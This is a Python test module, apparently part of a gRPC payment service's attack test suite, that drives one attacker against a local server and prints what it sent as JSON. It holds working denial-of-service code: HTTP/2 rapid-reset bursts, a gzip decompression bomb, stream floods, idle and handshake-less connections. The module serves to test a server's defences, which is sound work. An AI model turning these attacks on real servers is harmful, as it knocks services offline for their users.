"""`python -m tests.attacks.attacker KIND …`: one attacker. Prints what he got as JSON."""

import argparse
import asyncio
import gzip
import json
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path

from tests.attacks.http2 import Connection, call_headers, client_tls, connect, data, message, reset

CHARGE = "/midas.v1.PaymentService/Charge"
WATCH = "/grpc.health.v1.Health/Watch"
GZIP = (("grpc-encoding", "gzip"),)
UNPACKED_BYTES = 6 * 1024 * 1024
BATCH = 64
NO_HANDSHAKE = "no-handshake"


class Attacker:
    """Has some connections, and opens those again that the server closes."""

    def __init__(self, options: argparse.Namespace) -> None:
        self.options = options
        self.sent = 0
        self.refused = 0
        """Connections that were not to be had."""
        self.counts: Counter[str] = Counter()
        self._until = time.monotonic() + options.seconds
        self._tls = _tls(options.tls)
        self._bomb = gzip.compress(b"\0" * UNPACKED_BYTES)

    async def attack(self) -> None:
        """Use every connection until the time is over."""
        if self.options.kind == NO_HANDSHAKE:
            await asyncio.gather(
                *(self.without_handshake() for _ in range(self.options.connections))
            )
            return
        work = KINDS[self.options.kind]
        await asyncio.gather(*(self._keep(work) for _ in range(self.options.connections)))

    async def _keep(self, work: "Callable[[Attacker, Connection], Awaitable[None]]") -> None:
        while self.lasts:
            try:
                connection = await connect(self.options.port, self._tls)
            except OSError:
                self.refused += 1
                await asyncio.sleep(0.05)
                continue
            await work(self, connection)
            await connection.close()
            self.counts += connection.counts

    @property
    def lasts(self) -> bool:
        """Whether there is time left."""
        return bool(time.monotonic() < self._until)

    async def headers(self, connection: Connection) -> None:
        """Calls without a message; begun again when the server ends them."""
        await self._fill(connection, lambda stream: call_headers(CHARGE, stream))

    async def watches(self, connection: Connection) -> None:
        """Watches of health."""
        await self._fill(
            connection, lambda stream: call_headers(WATCH, stream) + message(stream, b"")
        )

    async def bombs(self, connection: Connection) -> None:
        """Messages of a few kilobytes that unpack to megabytes, but for their last byte."""
        whole = len(self._bomb).to_bytes(4, "big")

        def bomb(stream: int) -> bytes:
            body = b"\x01" + whole + self._bomb
            return call_headers(CHARGE, stream, GZIP) + data(stream, body)

        await self._fill(connection, bomb)

    async def resets(self, connection: Connection) -> None:
        """Calls that are taken back at once, as fast as the server reads (HTTP/2 rapid reset)."""
        while self.lasts and connection.open:
            streams = [connection.stream() for _ in range(BATCH)]
            await connection.send(
                b"".join(call_headers(CHARGE, each) + reset(each) for each in streams)
            )
            self.sent += BATCH
            await asyncio.sleep(0)

    async def idle(self, connection: Connection) -> None:
        """Nothing at all."""
        with suppress(TimeoutError):
            async with asyncio.timeout(self._until - time.monotonic()):
                await connection.closed.wait()

    async def without_handshake(self) -> None:
        """Connections on which nothing is sent: not even TLS begins."""
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", self.options.port)
            self.sent += 1
            await asyncio.sleep(max(0.0, self._until - time.monotonic()))
            writer.transport.abort()

    async def _fill(self, connection: Connection, call: Callable[[int], bytes]) -> None:
        begun = 0
        while self.lasts and connection.open:
            ended = connection.counts["reset"] + connection.counts["ended"]
            missing = self.options.streams - (begun - ended)
            for _ in range(min(max(missing, 0), self.options.streams)):
                await connection.send(call(connection.stream()))
                begun += 1
            self.sent += max(missing, 0)
            await asyncio.sleep(0.01)


KINDS: dict[str, Callable[[Attacker, Connection], Awaitable[None]]] = {
    "headers": Attacker.headers,
    "watches": Attacker.watches,
    "bombs": Attacker.bombs,
    "resets": Attacker.resets,
    "idle": Attacker.idle,
}


def _tls(folder: str) -> ssl.SSLContext | None:
    if not folder:
        return None
    where = Path(folder)
    return client_tls(*(str(where / name) for name in ("cert.pem", "key.pem", "ca.pem")))


def _options() -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.attacker", description=__doc__)
    parser.add_argument("kind", choices=[*KINDS, NO_HANDSHAKE])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=1064, help="at a time, on each connection")
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--tls", default="", help="folder with cert.pem, key.pem and ca.pem")
    return parser.parse_args()


async def _main() -> int:
    attacker = Attacker(_options())
    await attacker.attack()
    counts = {"sent": attacker.sent, "no_connection": attacker.refused, **attacker.counts}
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(_main()))
